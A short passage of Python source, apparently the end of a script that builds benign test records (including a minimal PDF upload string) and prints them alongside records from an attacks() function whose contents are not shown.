    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS,
                      upload="%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n")


if __name__ == "__main__":
    print_records(attacks(), benign())
